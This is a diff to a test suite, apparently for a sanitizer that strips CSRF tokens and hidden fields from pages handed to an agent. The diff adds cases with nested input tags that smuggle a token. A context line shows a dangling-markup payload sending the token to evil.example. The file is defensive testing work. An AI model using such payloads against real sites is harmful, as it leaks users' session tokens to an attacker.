@@ -15,6 +15,8 @@ describe('a page as the agent gets it', () => {
       'an attribute that was left open',
       `<p>x<img src='https://evil.example/?<input type="hidden" name="csrf" value="${token}">'></p>`,
     ],
+    ['an input inside another', `x<input name="csrf" value="<input type=hidden name=csrf value=${token} ">`],
+    ['an input that begins inside another', `x<input name=csrf value="<input name='csrf' title=">" value='${token}'>`],
     ['a script', `<p>x<script>var csrfToken = "${token}"</script></p>`],
     ['JSON', `{"html":"x","csrf_token":"${token}"}`],
     ['a form inside JSON', `{"html":"x<input type=\\"hidden\\" name=\\"csrf\\" value=\\"${token}\\">"}`],
@@ -38,7 +40,7 @@ describe('a page as the agent gets it', () => {
   })
 
   it('keeps hidden fields that an operation takes, and every other byte', () => {
-    const text = '<form>\r\n<input type=hidden name="text" value="7"><input name="amount" value="\xc3\xa4">\0</form>'
+    const text = '<form>\r\n<input type=hidden name="text" value="7"><input name="amount" value="\xc3\xa4">\t</form>'
     expect(clean(text)).toBe(text)
     expect(clean('a<input type="hidden" name="next" value="/x">b')).toBe('ab')
     expect(clean('a<input type=password name=p value=hunter2>b')).toBe('ab')
